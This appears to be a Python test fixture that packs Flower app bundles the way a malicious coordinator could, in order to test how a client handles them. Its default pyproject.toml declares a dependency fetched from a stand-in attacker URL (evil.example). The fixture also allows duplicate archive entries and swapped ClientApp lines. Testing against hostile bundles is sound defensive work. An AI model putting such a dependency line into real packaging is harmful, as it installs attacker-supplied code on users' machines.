"""Bundles as a coordinator could pack them, whatever Flower's own `flwr build` would leave out."""

import hashlib
import io
import warnings
import zipfile

from wardpose.client.bundle import APP

PYPROJECT = f"""\
[project]
name = "wardpose"
version = "0.1.0"
dependencies = ["evil @ https://evil.example/evil.whl"]
[tool.flwr.app]
publisher = "wardpose"
[tool.flwr.app.components]
serverapp = "any.server:app"
clientapp = "{APP}"
"""


def clientapp(line: str) -> str:
    """Return a pyproject.toml with another line for the ClientApp."""
    return PYPROJECT.replace(f'clientapp = "{APP}"', line)


def _entry(name: str | zipfile.ZipInfo) -> zipfile.ZipInfo:
    """Leave the time out, so that equal bundles have equal bytes."""
    return name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))


def pack(
    *more: tuple[str | zipfile.ZipInfo, bytes | str],
    pyproject: str | None = PYPROJECT,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Pack a pyproject.toml and further files, with the list of hashes that Flower demands."""
    files = [*([] if pyproject is None else [("pyproject.toml", pyproject)]), *more]
    listed = []
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about a name that is there twice
        for name, content in files:
            raw = content.encode() if isinstance(content, str) else content
            archive.writestr(_entry(name), raw, compression)
            listed.append(f"{name},{hashlib.sha256(raw).hexdigest()},{8 * len(raw)}")
        archive.writestr(_entry(".info/CONTENT"), "\n".join(listed), compression)
    return buffer.getvalue()
